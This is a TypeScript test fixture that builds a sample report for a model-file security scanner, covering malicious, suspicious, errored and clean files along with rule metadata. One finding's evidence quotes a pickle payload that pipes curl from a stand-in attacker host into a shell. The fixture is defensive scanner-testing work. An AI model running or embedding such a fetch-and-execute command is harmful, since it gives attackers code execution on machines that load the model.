import type { Finding } from '../../src/core/finding.js';
import type { ScanResult } from '../../src/core/report-types.js';
import type { RuleMeta } from '../../src/detectors/rule.js';

/*
 * A hand-built scan of two targets (a directory and a file), covering each verdict: a
 * malicious archive whose finding sits two members deep, a suspicious pickle with a byte
 * offset, a truncated file whose fatal finding carries a code, a clean file, and a finding
 * about a target as a whole. Some objects list their keys out of the contract's order on
 * purpose: the JSON reporter must put them back.
 */

const lockFinding = {
  target: 'models/',
  message: 'models/ has a file that modelgate.lock does not list: bert/bundle.zip',
  severity: 'medium',
  ruleId: 'lock/extra-file',
} satisfies Finding;

export function sampleResult(): ScanResult {
  return {
    schema: 'modelgate/report@1',
    tool: { name: 'modelgate', version: '0.1.0' },
    targets: ['models/', 'extra/loader.pkl'],
    summary: {
      files: 4,
      malicious: 1,
      suspicious: 1,
      clean: 1,
      error: 1,
      maxSeverity: 'critical',
      durationMs: 41,
    },
    findings: [lockFinding],
    files: [
      {
        path: 'bert/bundle.zip',
        targetIndex: 0,
        format: 'zip',
        size: 438000000,
        sha256: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
        sha256Source: 'computed',
        verdict: 'malicious',
        findings: [
          {
            ruleId: 'pickle/dangerous-callable',
            severity: 'critical',
            message: "unpickling calls os.system('curl … | sh')",
            target: 'bert/bundle.zip!/pytorch_model.bin!/archive/data.pkl',
            location: { opIndex: 57, offset: 1234 },
            evidence: "os.system('curl https://evil.example/x | sh')",
            references: ['MITRE ATLAS AML.T0010', 'CWE-502'],
          },
          {
            ruleId: 'pytorch/prefer-safetensors',
            severity: 'info',
            message: 'a PyTorch pickle checkpoint: prefer safetensors, which holds no code',
            target: 'bert/bundle.zip!/pytorch_model.bin',
          },
        ],
      },
      {
        verdict: 'suspicious',
        format: 'pickle',
        path: 'extra/loader.pkl',
        size: 2048,
        targetIndex: 1,
        sha256: '60303ae22b998861bce3b28f33eec1be758a213c86c93c076dbe9f558c11c752',
        findings: [
          {
            severity: 'medium',
            ruleId: 'pickle/unknown-global',
            message: 'imports some_pkg.helpers.Loader, which is not on the allow list',
            target: 'extra/loader.pkl',
            location: { offset: 18, opIndex: 3 },
            evidence: 'some_pkg.helpers.Loader',
          },
        ],
      },
      {
        path: 'broken.npy',
        targetIndex: 0,
        format: 'npy',
        size: 40,
        verdict: 'error',
        findings: [
          {
            ruleId: 'engine/parse-failed',
            severity: 'low',
            message: 'the header ends after 40 of 118 bytes',
            target: 'broken.npy',
            location: { offset: 40 },
            fatal: true,
            code: 'TRUNCATED',
          },
        ],
      },
      {
        path: 'config.json',
        targetIndex: 0,
        format: 'json',
        size: 512,
        sha256: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
        sha256Source: 'computed',
        verdict: 'clean',
        findings: [],
      },
    ],
  };
}

/** Rule metadata for the sample: one rule is never reported, one reported rule has none. */
export function sampleRules(): RuleMeta[] {
  return [
    {
      id: 'lock/extra-file',
      defaultSeverity: 'medium',
      title: 'File not in the lock',
      description: 'A target holds a file that its modelgate.lock does not list.',
      docs: 'docs/rules/lock/extra-file.md',
      references: [],
    },
    {
      id: 'numpy/object-array',
      defaultSeverity: 'high',
      title: 'Object array in a .npy file',
      description: 'An object array is a pickle: loading it with allow_pickle runs code.',
      docs: 'docs/rules/numpy/object-array.md',
      references: ['CWE-502'],
    },
    {
      id: 'pickle/dangerous-callable',
      defaultSeverity: 'critical',
      title: 'Pickle calls a dangerous callable',
      description: 'Unpickling imports and calls a function that runs commands or code.',
      docs: 'docs/rules/pickle/dangerous-callable.md',
      references: ['MITRE ATLAS AML.T0010', 'CWE-502'],
    },
    {
      id: 'pickle/unknown-global',
      defaultSeverity: 'medium',
      title: 'Pickle imports an unknown global',
      description: 'Unpickling imports a name that is neither known safe nor known dangerous.',
      docs: 'docs/rules/pickle/unknown-global.md',
      references: ['CWE-502'],
    },
    {
      id: 'pytorch/prefer-safetensors',
      defaultSeverity: 'info',
      title: 'Prefer safetensors',
      description: 'A pickle-based checkpoint; safetensors holds the same tensors without code.',
      docs: 'docs/rules/pytorch/prefer-safetensors.md',
      references: [],
    },
  ];
}
